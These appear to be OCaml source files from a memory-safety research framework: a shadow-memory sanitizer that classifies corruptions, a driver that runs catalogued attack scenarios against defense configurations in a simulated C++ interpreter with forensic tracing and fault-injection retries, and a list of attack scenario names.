  | Some sh -> st_of_code (Bytes.get_uint8 sh.sh_states (addr - sh.sh_base))

let shadow_images t =
  List.map (fun sh -> (sh.sh_base, sh.sh_states)) t.shadows
  |> List.sort (fun (a, _) (b, _) -> compare a b)

let set_range t addr len st ~only_addressable =
  let code = st_code st in
  for i = 0 to len - 1 do
    match find_shadow t (addr + i) with
    | None -> ()
    | Some sh ->
      let off = addr + i - sh.sh_base in
      if (not only_addressable) || Bytes.get_uint8 sh.sh_states off = 0 then begin
        Bytes.set_uint8 sh.sh_states off code;
        Cow.Bitmap.mark sh.sh_dirty off 1
      end
  done

let transition t op addr len st =
  match t.on_transition with
  | Some f -> f ~op ~addr ~len st
  | None -> ()

let poison t ~addr ~len st =
  transition t "poison" addr len st;
  set_range t addr len st ~only_addressable:false

let poison_addressable t ~addr ~len st =
  transition t "poison-addressable" addr len st;
  set_range t addr len st ~only_addressable:true

let unpoison t ~addr ~len =
  transition t "unpoison" addr len Addressable;
  set_range t addr len Addressable ~only_addressable:false

let unpoison_state t ~addr ~len st =
  transition t "unpoison-state" addr len st;
  let code = st_code st in
  for i = 0 to len - 1 do
    match find_shadow t (addr + i) with
    | None -> ()
    | Some sh ->
      let off = addr + i - sh.sh_base in
      if Bytes.get_uint8 sh.sh_states off = code then begin
        Bytes.set_uint8 sh.sh_states off 0;
        Cow.Bitmap.mark sh.sh_dirty off 1
      end
  done

let set_scenario t s = t.scenario <- s
let set_site t f = t.site <- f
let seal t = t.is_sealed <- true
let unseal t = t.is_sealed <- false
let sealed t = t.is_sealed

let exempt t f =
  t.exempt_depth <- t.exempt_depth + 1;
  Fun.protect ~finally:(fun () -> t.exempt_depth <- t.exempt_depth - 1) f

(* Classification table: which (state, access) pairs violate. Reads are
   flagged only for [Freed] and [Stale_tail]: a placement tail overlays
   memory the program also legitimately owns through its original name,
   so reading it is not evidence of corruption, and redzone/meta reads
   would false-positive on benign whole-struct copies. A [Place_guard]
   byte — the guard zone just past an exactly-sized placement arena —
   only violates on a *tainted* write: the neighbouring object is live
   program memory, so the taint tracker is the cross-check that the
   write came from attacker input rather than the program's own use of
   the neighbour. *)
let classify st access ~taint =
  match (st, access) with
  | Freed, (Fault.Read | Fault.Write) -> Some Use_after_free
  | Heap_redzone, Fault.Write -> Some Heap_overflow
  | Heap_meta, Fault.Write -> Some Meta_write
  | Stack_meta, Fault.Write -> Some Stack_smash
  | Place_tail, Fault.Write -> Some Placement_overflow
  | Stale_tail, Fault.Read -> Some Stale_read
  | Place_guard, Fault.Write when taint -> Some Placement_overflow
  | _ -> None

let record t kind st access addr taint =
  t.total <- t.total + 1;
  (* Coalesce byte-wise continuations of the same classified access so a
     four-byte store reads as one record. *)
  match t.recs with
  | last :: rest
    when last.v_kind = kind && last.v_access = access
         && addr = last.v_addr + last.v_len ->
    t.recs <- { last with v_len = last.v_len + 1 } :: rest
  | _ ->
    if t.n_recs < max_records then begin
      let site = match t.site with None -> "" | Some f -> ( try f () with _ -> "") in
      let v =
        {
          v_kind = kind;
          v_addr = addr;
          v_len = 1;
          v_access = access;
          v_taint = taint;
          v_state = st;
          v_scenario = t.scenario;
          v_site = site;
          v_seq = t.n_recs;
        }
      in
      t.recs <- v :: t.recs;
      t.n_recs <- t.n_recs + 1;
      (match t.on_violation with Some f -> f v | None -> ());
      if Pna_telemetry.Switch.enabled () then
        Pna_telemetry.Metrics.(
          incr
            (counter default "pna_san_violations_total"
               ~labels:[ ("kind", kind_name kind) ]))
    end

let on_access t ~access ~addr ~taint =
  if t.exempt_depth = 0 && not t.is_sealed then
    match find_shadow t addr with
    | None -> ()
    | Some sh ->
      let off = addr - sh.sh_base in
      let code = Bytes.get_uint8 sh.sh_states off in
      if code <> 0 then begin
        let st = st_of_code code in
        (match classify st access ~taint with
        | Some kind -> record t kind st access addr taint
        | None -> ());
        (* A write over a stale tail re-initializes the byte: the leaked
           secret is gone, so later reads are clean. *)
        if st = Stale_tail && access = Fault.Write then begin
          Bytes.set_uint8 sh.sh_states off 0;
          Cow.Bitmap.mark sh.sh_dirty off 1
        end
      end

let attach ?(scenario = "") mem =
  let shadows =
    List.map
      (fun (s : Segment.t) ->
        {
          sh_base = s.Segment.base;
          sh_size = s.Segment.size;
          sh_states = Bytes.make s.Segment.size '\000';
          sh_dirty = Cow.Bitmap.create s.Segment.size;
        })
      (Vmem.segments mem)
  in
  let t =
    {
      mem;
      shadows;
      sync_id = 0;
      cow = true;
      scenario;
      site = None;
      exempt_depth = 0;
      is_sealed = false;
      recs = [];
      n_recs = 0;
      total = 0;
      on_violation = None;
      on_transition = None;
    }
  in
  Vmem.set_observer mem (Some (fun ~access ~addr ~taint -> on_access t ~access ~addr ~taint));
  t

let detach t = Vmem.set_observer t.mem None
let set_on_violation t f = t.on_violation <- f
let set_on_transition t f = t.on_transition <- f

let violations t = List.rev t.recs
let first t = match List.rev t.recs with [] -> None | v :: _ -> Some v
let total t = t.total

let count_by_kind t =
  let add acc v =
    let n = try List.assoc v.v_kind acc with Not_found -> 0 in
    (v.v_kind, n + 1) :: List.remove_assoc v.v_kind acc
  in
  List.fold_left add [] t.recs |> List.sort compare

(* ------------------------------------------------------------------ *)
(* Snapshot / restore                                                   *)

type snapshot = {
  sn_id : int;  (* sync token, globally unique *)
  sn_states : (int * Bytes.t) list;  (* keyed by segment base *)
  sn_recs : violation list;
  sn_n_recs : int;
  sn_total : int;
}

(* Same copy-on-write protocol as [Vmem]: a snapshot or a restore leaves
   shadow contents equal to the snapshot's frozen states, so the sync
   token is set and the dirty bitmaps cleared; every poison/unpoison/
   stale-reset above marks what it touches; restoring the snapshot the
   shadows are synced to then blits only dirty pages. *)
let sync_to t snap =
  if t.cow then begin
    List.iter (fun sh -> Cow.Bitmap.clear sh.sh_dirty) t.shadows;
    t.sync_id <- snap.sn_id
  end

let set_cow t b =
  t.cow <- b;
  t.sync_id <- 0

let snapshot t =
  let snap =
    {
      sn_id = Cow.fresh_gen ();
      sn_states =
        List.map (fun sh -> (sh.sh_base, Bytes.copy sh.sh_states)) t.shadows;
      sn_recs = t.recs;
      sn_n_recs = t.n_recs;
      sn_total = t.total;
    }
  in
  sync_to t snap;
  snap

let restore t snap =
  let synced = t.cow && t.sync_id = snap.sn_id && t.sync_id <> 0 in
  List.iter
    (fun sh ->
      match List.assoc_opt sh.sh_base snap.sn_states with
      | Some b when Bytes.length b = sh.sh_size ->
        if synced then begin
          if Cow.Bitmap.any sh.sh_dirty then begin
            Cow.Bitmap.iter_runs sh.sh_dirty (fun off len ->
                Bytes.blit b off sh.sh_states off len);
            Cow.Bitmap.clear sh.sh_dirty
          end
        end
        else Bytes.blit b 0 sh.sh_states 0 sh.sh_size
      | _ -> ())
    t.shadows;
  if not synced then sync_to t snap;
  t.recs <- snap.sn_recs;
  t.n_recs <- snap.sn_n_recs;
  t.total <- snap.sn_total

let pp_report ppf t =
  let vs = violations t in
  Fmt.pf ppf "@[<v>%d violation record(s), %d violating byte access(es)@,"
    t.n_recs t.total;
  List.iter (fun v -> Fmt.pf ppf "%a@," pp_violation v) vs;
  Fmt.pf ppf "@]"
