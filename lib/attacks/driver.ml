(** Runs catalogue attacks against defense configurations and inspects the
    resulting memory image. *)

module Machine = Pna_machine.Machine
module Config = Pna_defense.Config
module Interp = Pna_minicpp.Interp
module Vm = Pna_minicpp.Vm
module Outcome = Pna_minicpp.Outcome
module Vmem = Pna_vmem.Vmem
module Trace = Pna_telemetry.Trace
module San = Pna_sanitizer.Sanitizer
module Flight = Pna_flight.Flight

type result = {
  attack : Catalog.t;
  config : Config.t;
  outcome : Outcome.t;
  verdict : Catalog.verdict;
  violations : San.violation list;
      (** what the shadow-memory oracle recorded; empty unless the run
          was sanitized *)
}

(* Build the shadow-memory oracle over a freshly loaded machine and wire
   it through the poisoning layers. *)
let oracle m ~scenario =
  let san = San.attach ~scenario (Machine.mem m) in
  Machine.attach_sanitizer m (Some san);
  san

(* Per-statement site context for violation reports: a lazy thunk, only
   forced if a violation actually records under this statement. *)
let site_hook san =
  fun func stmt ->
  San.set_site san
    (Some
       (fun () ->
         Fmt.str "%s: %a" func (Pna_minicpp.Cpp_print.pp_stmt 0) stmt))

(* The always-on black box: with PNA_FLIGHT_DIR set, every sanitized
   run records into an ambient flight session and a violating, crashed
   or timed-out run dumps its forensic bundle there automatically. *)
let flight_dir = Sys.getenv_opt "PNA_FLIGHT_DIR"

let crashed (o : Outcome.t) =
  match o.Outcome.status with
  | Outcome.Crashed _ | Outcome.Out_of_memory | Outcome.Timeout _ -> true
  | _ -> false

(* --- execution engine selection --- *)

type engine = [ `Interp | `Bytecode ]

(* Like PNA_SANITIZE below: CI's bytecode test pass exports
   PNA_ENGINE=bytecode to run every driver-based test on the VM; explicit
   [?engine] arguments still win. *)
let env_engine : engine =
  match Sys.getenv_opt "PNA_ENGINE" with
  | Some ("bytecode" | "vm" | "compiled") -> `Bytecode
  | _ -> `Interp

let engine_name = function `Interp -> "interp" | `Bytecode -> "bytecode"

(* One entry point for both engines; [unit_] lets a prepared scenario
   reuse its compilation instead of consulting the unit cache. *)
let exec ?max_steps ?on_stmt ?on_tick ~engine ?unit_ m prog ~entry =
  match engine with
  | `Interp -> Interp.run ?max_steps ?on_stmt ?on_tick m prog ~entry
  | `Bytecode ->
    let u = match unit_ with Some u -> u | None -> Vm.load prog in
    Vm.run ?max_steps ?on_stmt ?on_tick m u ~entry

(* Judge, run and check on an already-loaded machine. [run] and
   [run_prepared] share this so a rewound machine and a fresh load are
   driven identically — the determinism the service layer relies on.
   The caller is expected to hold a "run" span open; memory-access
   deltas and the verdict are published into it. [flight] attaches the
   given flight-recorder session for the duration of the run. *)
let run_on ?max_steps ?san ?flight ?(engine = env_engine) ?unit_ m
    (a : Catalog.t) ~config =
  let mem = Machine.mem m in
  let r0 = Vmem.total_reads mem and w0 = Vmem.total_writes mem in
  let f0 = Vmem.total_faults mem in
  let ints, strings = a.Catalog.mk_input m in
  Machine.set_input ~ints ~strings m;
  let auto, fl =
    match (flight, san, flight_dir) with
    | Some fl, _, _ -> (false, Some fl)
    | None, Some _, Some _ ->
      ( true,
        Some
          (Flight.start ~scenario:a.Catalog.id
             ~config:config.Config.name) )
    | _ -> (false, None)
  in
  (match (fl, san) with
  | Some fl, Some s -> Flight.attach fl s
  | _ -> ());
  let site =
    Option.map
      (fun s ->
        San.set_scenario s a.Catalog.id;
        San.unseal s;
        site_hook s)
      san
  in
  let on_stmt =
    match (site, fl) with
    | None, None -> None
    | _ ->
      Some
        (fun func stmt ->
          Option.iter Flight.tick fl;
          match site with Some h -> h func stmt | None -> ())
  in
  let outcome =
    exec ?max_steps ?on_stmt ~engine ?unit_ m a.Catalog.program
      ~entry:a.Catalog.entry
  in
  (* The oracle stops recording before the verdict: checks legitimately
     inspect freed blocks and stale tails to prove corruption. *)
  Option.iter San.seal san;
  (match (auto, fl, flight_dir) with
  | true, Some fl, Some dir
    when Flight.first_violation fl <> None || crashed outcome ->
    ignore
      (Flight.dump ~dir ~machine:m ?san
         ~status:(Fmt.str "%a" Outcome.pp_status outcome.Outcome.status)
         fl)
  | _ -> ());
  let verdict =
    Trace.with_span ~cat:"driver" "verdict" @@ fun () -> a.Catalog.check m outcome
  in
  Trace.add_args
    ([
       ("status", Trace.Str (Fmt.str "%a" Outcome.pp_status outcome.Outcome.status));
       ("engine", Trace.Str (engine_name engine));
       ("success", Trace.Bool verdict.Catalog.success);
       ("steps", Trace.Int outcome.Outcome.steps);
       ("mem_reads", Trace.Int (Vmem.total_reads mem - r0));
       ("mem_writes", Trace.Int (Vmem.total_writes mem - w0));
       ("mem_faults", Trace.Int (Vmem.total_faults mem - f0));
     ]
    @
    match san with
    | None -> []
    | Some s -> [ ("san_violations", Trace.Int (San.total s)) ]);
  {
    attack = a;
    config;
    outcome;
    verdict;
    violations = (match san with None -> [] | Some s -> San.violations s);
  }

let run_span ~image (a : Catalog.t) ~(config : Config.t) f =
  Trace.with_span ~cat:"driver" "run"
    ~args:
      [
        ("scenario", Trace.Str a.Catalog.id);
        ("config", Trace.Str config.Config.name);
        ("image", Trace.Str image);
      ]
    f

(* CI's second test pass exports PNA_SANITIZE=1 to run every driver-based
   test under the oracle; explicit [~sanitize] arguments still win. *)
let env_sanitize =
  match Sys.getenv_opt "PNA_SANITIZE" with
  | Some ("1" | "true" | "yes") -> true
  | _ -> false

let run ?(config = Config.none) ?max_steps ?(sanitize = env_sanitize)
    ?(engine = env_engine) (a : Catalog.t) =
  run_span ~image:"fresh-load" a ~config @@ fun () ->
  let m = Interp.load ~config a.Catalog.program in
  let san = if sanitize then Some (oracle m ~scenario:a.Catalog.id) else None in
  run_on ?max_steps ?san ~engine m a ~config

(* A fully instrumented forensic run: sanitizer attached, Vmem write
   trace armed (so the bundle can name the writes that produced the
   corrupting bytes), a dedicated flight session, and the bundle dumped
   under [dir] whatever the outcome. *)
let run_forensic ?(config = Config.none) ?max_steps ?(engine = env_engine) ~dir
    (a : Catalog.t) =
  run_span ~image:"fresh-load" a ~config @@ fun () ->
  let m = Interp.load ~config a.Catalog.program in
  let san = oracle m ~scenario:a.Catalog.id in
  Vmem.enable_trace (Machine.mem m);
  let fl =
    Flight.start ~scenario:a.Catalog.id ~config:config.Config.name
  in
  let r = run_on ?max_steps ~san ~flight:fl ~engine m a ~config in
  let bundle =
    Flight.dump ~dir ~machine:m ~san
      ~status:(Fmt.str "%a" Outcome.pp_status r.outcome.Outcome.status)
      fl
  in
  (r, fl, bundle)

(* Run the §5.1 hardened variant of [a] under the same attacker input. The
   hardened program is judged safe when it terminates normally and no
   hijack or corruption event fired. With [sanitize] the shadow oracle
   rides along; its records come back for false-positive auditing. *)
let run_hardened ?(config = Config.none) ?max_steps ?(sanitize = env_sanitize)
    ?(engine = env_engine) (a : Catalog.t) =
  Option.map
    (fun program ->
      let m = Interp.load ~config program in
      let san =
        if sanitize then
          Some (oracle m ~scenario:(a.Catalog.id ^ "+hardened"))
        else None
      in
      let ints, strings = a.Catalog.mk_input m in
      Machine.set_input ~ints ~strings m;
      let on_stmt = Option.map site_hook san in
      let outcome = exec ?max_steps ?on_stmt ~engine m program ~entry:a.Catalog.entry in
      Option.iter San.seal san;
      let safe =
        Outcome.exited_normally outcome
        && not (List.exists Pna_machine.Event.is_hijack outcome.Outcome.events)
      in
      (outcome, safe, match san with None -> [] | Some s -> San.violations s))
    a.Catalog.hardened

(* --- prepared scenarios: load once, rewind per run --- *)

type prepared = {
  pr_attack : Catalog.t;
  pr_config : Config.t;
  pr_machine : Machine.t;
  pr_image : Machine.snapshot;  (** the post-load state rewound to *)
  pr_san : San.t option;
  pr_engine : engine;
  pr_unit : Pna_minicpp.Compile.t option;
      (** compiled once at prepare time when the engine is bytecode, so
          rewound runs pay zero compilation *)
  mutable pr_restores : int;
}

let prepare ?(config = Config.none) ?(sanitize = env_sanitize)
    ?(engine = env_engine) (a : Catalog.t) =
  Trace.with_span ~cat:"driver" "prepare"
    ~args:[ ("scenario", Trace.Str a.Catalog.id) ]
  @@ fun () ->
  let m = Interp.load ~config a.Catalog.program in
  (* Attach before the snapshot so rewinds restore the clean shadow map
     along with the memory it mirrors. *)
  let san = if sanitize then Some (oracle m ~scenario:a.Catalog.id) else None in
  {
    pr_attack = a;
    pr_config = config;
    pr_machine = m;
    pr_image = Machine.snapshot m;
    pr_san = san;
    pr_engine = engine;
    pr_unit =
      (match engine with
      | `Bytecode -> Some (Vm.load a.Catalog.program)
      | `Interp -> None);
    pr_restores = 0;
  }

let reset p =
  Trace.with_span ~cat:"driver" "rewind" (fun () ->
      Machine.restore p.pr_machine p.pr_image);
  p.pr_restores <- p.pr_restores + 1;
  p.pr_machine

let restores p = p.pr_restores

let prepared_engine p = p.pr_engine

let run_prepared ?max_steps p =
  run_span ~image:"rewind" p.pr_attack ~config:p.pr_config @@ fun () ->
  run_on ?max_steps ?san:p.pr_san ~engine:p.pr_engine ?unit_:p.pr_unit (reset p)
    p.pr_attack ~config:p.pr_config

let prepared_input p =
  p.pr_attack.Catalog.mk_input (reset p)

(* --- frozen images: share one prepared snapshot across domains --- *)

(* Everything needed to rebuild a [prepared] without re-running
   [Interp.load]: the frozen post-load snapshot plus the immutable
   inputs. The snapshot is only ever read — [Machine.restore] never
   writes into it — so one image can back any number of domain-local
   replicas; frozen segment pages are shared, and each replica's rewinds
   are dirty-page blits against the shared backing. *)
type image = {
  im_attack : Catalog.t;
  im_config : Config.t;
  im_sanitize : bool;
  im_engine : engine;
  im_unit : Pna_minicpp.Compile.t option;
  im_snapshot : Machine.snapshot;
  im_env : Pna_layout.Layout.env;
}

let freeze p =
  {
    im_attack = p.pr_attack;
    im_config = p.pr_config;
    im_sanitize = p.pr_san <> None;
    im_engine = p.pr_engine;
    im_unit = p.pr_unit;
    im_snapshot = p.pr_image;
    im_env = Machine.env p.pr_machine;
  }

(* Instantiate a domain-local replica: a blank machine shell over the
   same fixed address map, the oracle re-attached when the image was
   sanitized, then one full-copy restore to the shared snapshot. After
   that first restore the replica is synced, so its per-run rewinds blit
   only dirty pages. [Layout.of_class] memoizes into the env's tables, so
   each replica gets its own copy of the env rather than racing other
   domains on the shared one (the layout values themselves are
   immutable). *)
let thaw im =
  Trace.with_span ~cat:"driver" "thaw"
    ~args:[ ("scenario", Trace.Str im.im_attack.Catalog.id) ]
  @@ fun () ->
  let env =
    {
      Pna_layout.Layout.classes = Hashtbl.copy im.im_env.Pna_layout.Layout.classes;
      layouts = Hashtbl.copy im.im_env.Pna_layout.Layout.layouts;
    }
  in
  let m = Machine.create ~config:im.im_config env in
  let san =
    if im.im_sanitize then Some (oracle m ~scenario:im.im_attack.Catalog.id)
    else None
  in
  Machine.restore m im.im_snapshot;
  {
    pr_attack = im.im_attack;
    pr_config = im.im_config;
    pr_machine = m;
    pr_image = im.im_snapshot;
    pr_san = san;
    pr_engine = im.im_engine;
    pr_unit = im.im_unit;
    pr_restores = 0;
  }

let image_engine im = im.im_engine
let image_sanitized im = im.im_sanitize

(* --- supervised execution under a fault plan --- *)

module Chaos = Pna_chaos.Chaos
module Plan = Pna_chaos.Plan

type supervised = {
  sv_attack : Catalog.t;
  sv_config : Config.t;
  sv_plan : Plan.t;
  sv_attempts : int;  (** total runs, including the final one *)
  sv_final_attempt : int;
      (** 1-based index of the attempt whose outcome became the verdict *)
  sv_backoff_ms : int list;
      (** simulated exponential backoff before each retry, oldest first *)
  sv_fired : string list;  (** labels of the faults that actually fired *)
  sv_outcome : Outcome.t;
  sv_verdict : Catalog.verdict;
}

let default_budget = 2_000_000

(* Fleet-level retry accounting lands in the process-wide registry —
   supervision has no per-instance owner the way the service does. *)
module Metrics = Pna_telemetry.Metrics

let retries_total =
  lazy (Metrics.counter Metrics.default "pna_supervise_retries_total")

let giveups_total =
  lazy (Metrics.counter Metrics.default "pna_supervise_giveups_total")

(* A transient status is one worth retrying when it was provoked by an
   injected fault: the fault is one-shot, so the next attempt runs clean.
   Hijacks and defense stops are never retried — those are the behaviours
   under measurement, not infrastructure noise. *)
let transient (o : Outcome.t) =
  match o.Outcome.status with
  | Outcome.Crashed _ | Outcome.Out_of_memory | Outcome.Timeout _ -> true
  | _ -> false

let supervise ?(config = Config.none) ?(max_retries = 3) ?(jitter_pct = 0)
    ?(max_steps = default_budget) ?reload ?(engine = env_engine) ~plan
    (a : Catalog.t) =
  let eng = Chaos.create plan in
  (* Jitter is seeded from the plan, so a supervised run stays replayable
     from its plan alone — same plan, same backoff schedule. *)
  let jitter_rng =
    if jitter_pct > 0 then
      Some (Pna_rand.Rand.create (plan.Plan.seed lxor 0xb40ff5))
    else None
  in
  let backoff_ms attempt =
    let base = 1 lsl (attempt - 1) in
    match jitter_rng with
    | None -> base
    | Some rng ->
      base + Pna_rand.Rand.int rng (1 + (base * jitter_pct / 100))
  in
  let load =
    (* [reload] lets a serving layer hand out a rewound prepared machine
       instead of rebuilding the image for every attempt *)
    match reload with
    | Some f -> f
    | None -> fun () -> Interp.load ~config a.Catalog.program
  in
  let run_once () =
    match
      let m = load () in
      let ints, strings = a.Catalog.mk_input m in
      let strings = Chaos.perturb_strings eng strings in
      Machine.set_input ~ints ~strings m;
      Chaos.arm eng m;
      let budget = Chaos.budget eng ~default:max_steps in
      let o =
        exec ~max_steps:budget ~on_tick:(Chaos.tick eng) ~engine m
          a.Catalog.program ~entry:a.Catalog.entry
      in
      (o, Some m)
    with
    | r -> r
    | exception exn ->
      (* the supervisor's no-escape guarantee: whatever an injected fault
         breaks, the caller sees a classified outcome *)
      ( {
          Outcome.status =
            Outcome.Crashed
              (Fmt.str "unhandled exception: %s" (Printexc.to_string exn));
          events = [];
          output = [];
          steps = 0;
        },
        None )
  in
  let rec go attempt backoffs =
    let fired_before = List.length (Chaos.fired eng) in
    let outcome, m =
      Trace.with_span ~cat:"driver" "attempt"
        ~args:[ ("index", Trace.Int attempt) ]
        (fun () ->
          let r = run_once () in
          Trace.add_args
            [
              ( "status",
                Trace.Str
                  (Fmt.str "%a" Outcome.pp_status (fst r).Outcome.status) );
            ];
          r)
    in
    let injected = List.length (Chaos.fired eng) > fired_before in
    if injected && transient outcome && attempt <= max_retries then begin
      (* backoff is simulated (recorded, not slept): 1, 2, 4, ... ms,
         plus seeded jitter when [jitter_pct] asks for it *)
      let ms = backoff_ms attempt in
      Metrics.incr (Lazy.force retries_total);
      Trace.instant ~cat:"driver" "retry"
        ~args:
          [ ("after_attempt", Trace.Int attempt); ("backoff_ms", Trace.Int ms) ];
      go (attempt + 1) (ms :: backoffs)
    end
    else begin
      (* a transient, injected failure that exhausted the attempt cap is
         a give-up — distinct from a verdict reached on a clean run *)
      if injected && transient outcome && attempt > max_retries then
        Metrics.incr (Lazy.force giveups_total);
      (* [attempt] is the attempt whose run produced this outcome: the
         supervisor retries strictly in sequence, so the surviving run
         is both the last and the verdict-producing one. Record it
         explicitly so downstream output can say which run was judged. *)
      let outcome =
        match outcome.Outcome.status with
        | Outcome.Exited c when attempt > 1 ->
          {
            outcome with
            Outcome.status =
              Outcome.Recovered
                { attempts = attempt; final_attempt = attempt; exit_code = c };
          }
        | _ -> outcome
      in
      let verdict =
        match m with
        | Some m -> (
          try a.Catalog.check m outcome
          with exn ->
            Catalog.failure "check raised %s" (Printexc.to_string exn))
        | None -> Catalog.failure "run aborted before execution"
      in
      Trace.add_args [ ("final_attempt", Trace.Int attempt) ];
      {
        sv_attack = a;
        sv_config = config;
        sv_plan = plan;
        sv_attempts = attempt;
        sv_final_attempt = attempt;
        sv_backoff_ms = List.rev backoffs;
        sv_fired = Chaos.fired eng;
        sv_outcome = outcome;
        sv_verdict = verdict;
      }
    end
  in
  Trace.with_span ~cat:"driver" "supervise"
    ~args:
      [
        ("scenario", Trace.Str a.Catalog.id);
        ("config", Trace.Str config.Config.name);
        ("plan_seed", Trace.Int plan.Plan.seed);
      ]
  @@ fun () -> go 1 []

let pp_supervised ppf s =
  Fmt.pf ppf
    "@[<v2>%s under %s, plan seed %d: %a@,attempts: %d (verdict from attempt %d)%a%a@,verdict: %s@]"
    s.sv_attack.Catalog.id s.sv_config.Config.name s.sv_plan.Plan.seed
    Outcome.pp_status s.sv_outcome.Outcome.status s.sv_attempts
    s.sv_final_attempt
    (fun ppf -> function
      | [] -> ()
      | ms -> Fmt.pf ppf "@,backoff ms: %a" Fmt.(list ~sep:comma int) ms)
    s.sv_backoff_ms
    (fun ppf -> function
      | [] -> ()
      | fired -> Fmt.pf ppf "@,fired: %a" Fmt.(list ~sep:comma string) fired)
    s.sv_fired s.sv_verdict.Catalog.detail

(* --- memory inspection helpers for attack checks --- *)

let global_addr m name = Machine.global_addr_exn m name
let u32 m addr = Vmem.read_u32 (Machine.mem m) addr
let f64 m addr = Vmem.read_f64 (Machine.mem m) addr
let tainted m addr len = Vmem.range_tainted (Machine.mem m) addr len
let bytes m addr len = Vmem.read_bytes (Machine.mem m) addr len

let global_u32 ?(off = 0) m name = u32 m (global_addr m name + off)
let global_f64 ?(off = 0) m name = f64 m (global_addr m name + off)
let global_tainted ?(off = 0) m name len = tainted m (global_addr m name + off) len

let output_contains (o : Outcome.t) needle =
  let contains s =
    let nl = String.length needle and sl = String.length s in
    let rec go i = i + nl <= sl && (String.sub s i nl = needle || go (i + 1)) in
    nl = 0 || go 0
  in
  List.exists contains o.Outcome.output

let pp_result ppf r =
  Fmt.pf ppf "@[<v2>%s under %s: %s@,outcome: %a@,verdict: %s@]" r.attack.Catalog.id
    r.config.Config.name
    (if r.verdict.Catalog.success then "ATTACK SUCCEEDED" else "attack failed")
    Outcome.pp_status r.outcome.Outcome.status r.verdict.Catalog.detail
