(** The full attack catalogue, in paper order. *)

let attacks : Catalog.t list =
  [
    L03_string_object.attack;
    L03_string_object.misaligned;
    L05_remote_count.attack;
    L06_copy_loop.attack;
    L07_copy_ctor.attack;
    L08_indirect.attack;
    L10_internal.attack;
    L11_data_bss.attack;
    L12_heap.attack;
    L13_stack_ret.attack;
    L13_stack_ret.bypass;
    L13_stack_ret.inject;
    L14_bss_var.attack;
    L15_stack_var.attack;
    L15_stack_var.dos;
    L15_stack_var.skip;
    L16_member.attack;
    Vtable_subterfuge.bss;
    Vtable_subterfuge.stack;
    L17_funptr.attack;
    L18_varptr.attack;
    L19_array_stack.attack;
    L20_array_bss.attack;
    L21_leak_array.attack;
    L22_leak_object.attack;
    L23_memleak.attack;
    L23_memleak.oom;
    Ser_remote_object.grad_object;
    Ser_remote_object.course_count;
  ]

(* Dynamically registered scenarios (e.g. a generated fuzz corpus loaded
   at startup). The static catalogue always wins on id collision, so a
   registration can never shadow a paper attack. *)
let registered : (string, Catalog.t) Hashtbl.t = Hashtbl.create 64

let register (a : Catalog.t) =
  if not (List.exists (fun b -> b.Catalog.id = a.Catalog.id) attacks) then
    Hashtbl.replace registered a.Catalog.id a

let registered_ids () =
  Hashtbl.fold (fun id _ acc -> id :: acc) registered [] |> List.sort compare

let find id =
  match List.find_opt (fun a -> a.Catalog.id = id) attacks with
  | Some _ as r -> r
  | None -> Hashtbl.find_opt registered id

let hardened_ids =
  List.filter_map
    (fun a -> Option.map (fun _ -> a.Catalog.id) a.Catalog.hardened)
    attacks
