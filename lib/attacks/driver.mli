(** Runs catalogue attacks against defense configurations and inspects the
    resulting memory image. *)

module Machine = Pna_machine.Machine
module Config = Pna_defense.Config
module Outcome = Pna_minicpp.Outcome
module San = Pna_sanitizer.Sanitizer

type result = {
  attack : Catalog.t;
  config : Config.t;
  outcome : Outcome.t;
  verdict : Catalog.verdict;
  violations : San.violation list;
      (** what the shadow-memory oracle recorded; empty unless the run
          was sanitized *)
}

type engine = [ `Interp | `Bytecode ]
(** Which execution engine drives the scenario: the tree-walking
    interpreter or the compiled bytecode VM ({!Pna_minicpp.Vm}). The two
    are observationally identical — same outcome, step counts, events,
    sanitizer observations and taint (the E19 gate) — so the choice is
    purely a speed lever. *)

val env_engine : engine
(** The engine the [PNA_ENGINE] environment variable selected at process
    start (["bytecode"], ["vm"] or ["compiled"] pick the VM; anything else
    the interpreter) — the default for every [?engine] flag here. *)

val engine_name : engine -> string
(** ["interp"] or ["bytecode"] — the spelling cache keys and wire frames
    use. *)

val env_sanitize : bool
(** True when the [PNA_SANITIZE] environment variable asked for the
    shadow-memory oracle at process start — the default for every
    [?sanitize] flag here and the one serving layers should share, so a
    pooled run and a sequential run of the same job sanitize alike. *)

val flight_dir : string option
(** The [PNA_FLIGHT_DIR] environment variable at process start. When
    set, every sanitized run records into an ambient
    {!Pna_flight.Flight} session and any violating, crashed or
    timed-out run dumps its forensic bundle under that directory
    automatically — the always-on black box. *)

val run :
  ?config:Config.t ->
  ?max_steps:int ->
  ?sanitize:bool ->
  ?engine:engine ->
  Catalog.t ->
  result
(** Load, compute attacker input against the image, run, judge.
    [max_steps] bounds the interpreter budget — the same deadline knob
    {!supervise} has always taken, so a serving layer can enforce per-job
    deadlines uniformly. [sanitize] (default false, or true when the
    [PNA_SANITIZE] environment variable is set — CI's second test pass)
    attaches the PNASan shadow-memory oracle for the run: violations are
    recorded (never
    halting execution, so the verdict is unchanged) and returned in
    [violations], sealed before the verdict check so attack checks can
    inspect freed and stale memory freely. *)

val run_forensic :
  ?config:Config.t ->
  ?max_steps:int ->
  ?engine:engine ->
  dir:string ->
  Catalog.t ->
  result * Pna_flight.Flight.session * string
(** A fully instrumented forensic run: the PNASan oracle attached, the
    Vmem write trace armed (so the bundle names the writes that produced
    the corrupting bytes), and a dedicated flight-recorder session.
    The bundle is dumped under [dir] whatever the outcome; the returned
    string is the bundle directory. *)

val run_hardened :
  ?config:Config.t ->
  ?max_steps:int ->
  ?sanitize:bool ->
  ?engine:engine ->
  Catalog.t ->
  (Outcome.t * bool * San.violation list) option
(** Run the §5.1 hardened twin under the same attacker input; the boolean
    is "safe": exited normally with no hijack event. With [sanitize] the
    oracle rides along — a hardened variant is expected to record zero
    violations (the false-positive half of the E14 gate). *)

(** {1 Prepared scenarios: load once, rewind per run}

    A [prepared] value owns a loaded machine plus a {!Machine.snapshot} of
    its post-load state. [run_prepared] rewinds to that snapshot instead
    of re-deriving the image from the program — byte-identical behaviour
    at a fraction of the setup cost. The machine is owned by the prepared
    value: a prepared scenario must only be driven from one domain at a
    time. *)

type prepared

val prepare :
  ?config:Config.t -> ?sanitize:bool -> ?engine:engine -> Catalog.t -> prepared
(** With [sanitize], the oracle is attached before the snapshot is
    frozen, so every rewind restores the pristine shadow map too. With
    the bytecode engine, the program is compiled here — once — and every
    rewound run reuses the unit. *)

val prepared_engine : prepared -> engine
(** The engine this prepared image runs on — serving layers key their
    memo entries on it, so mixed-engine batches never share a hit. *)

val run_prepared : ?max_steps:int -> prepared -> result

val reset : prepared -> Machine.t
